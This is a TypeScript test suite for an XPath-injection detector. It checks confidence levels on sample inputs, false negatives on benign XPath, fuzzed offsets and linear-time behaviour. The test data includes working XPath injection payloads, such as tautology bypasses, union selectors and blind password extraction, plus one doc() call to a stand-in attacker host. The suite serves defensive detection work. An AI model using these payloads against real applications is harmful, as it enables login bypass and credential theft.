import fc from "fast-check";
import { describe, expect, test } from "vitest";
import type { Field } from "../../../model/field.ts";
import type { Match } from "../../detector.ts";
import { xpathInjection } from "./xpath-injection.ts";

function detect(value: string, field: Partial<Field> = {}): Match | undefined {
  return xpathInjection.detect({
    location: "query",
    name: "q",
    part: "value",
    type: "string",
    value,
    ...field,
  });
}

describe("an expression that is left", () => {
  test.each([
    "x' or name()='username' or 'x'='y",
    "' and count(/*)=1 and '1'='1",
    "')] | //user/*[contains(*,'",
    "') and contains(../password,'c",
    "' or string-length(name(/*[1]))=4 or '",
    "'] | //password | //x['",
    "' or substring(//user[1]/password,1,1)='a",
    "' or position()=1 or ''='",
    "* and doc('//evil.example/SHARE')",
  ])("is flagged with high confidence: %j", (value) => {
    expect(detect(value)).toMatchObject({ confidence: "high" });
  });

  test.each(["count(/child::node())"])("is flagged with medium confidence: %j", (value) => {
    expect(detect(value)).toMatchObject({ confidence: "medium" });
  });

  test.each([
    "The lecture said one can write ' or position()=1 to get every row of it",
  ])("stays at low confidence: %j", (value) => {
    expect(detect(value)).toMatchObject({ confidence: "low" });
  });

  test.each([
    "//div[@class='x']/text()",
    "/html/body/div[1]/a[last()]",
    '//*[@id="main"]',
    "//a[@x='1'] | //b",
    ".//a[contains(@href,'x')]",
    "name() or title()",
    "https://example.com/a//*",
    "$('x').text() || ''",
    "O'Brien and sons (text)",
    "",
  ])("is not seen in %j", (value) => {
    expect(detect(value)).toBeUndefined();
  });
});

describe("reading", () => {
  test("takes any text without failing, and keeps its offsets inside", () => {
    const unit = fc.constantFrom(
      "'",
      "count(/",
      "//*",
      " and ",
      "] | /",
      "' or ",
      ..."\"'<>!()[]{}:;=&|/*%#\n\r a1O",
    );
    fc.assert(
      fc.property(fc.string({ unit }), (value) => {
        const match = detect(value);
        if (match === undefined) return;
        expect(match.start).toBeLessThanOrEqual(match.end);
        expect(match.end).toBeLessThanOrEqual(value.length);
      }),
    );
  });

  test.each([
    "'",
    "count(/",
    "//*",
    " and ",
    "] | /",
    "' or ",
  ])("stays linear on a megabyte of %j", (pump) => {
    const value = pump.repeat(1_048_576 / pump.length);
    const started = performance.now();
    detect(value);
    expect(performance.now() - started).toBeLessThan(3_000);
  });
});
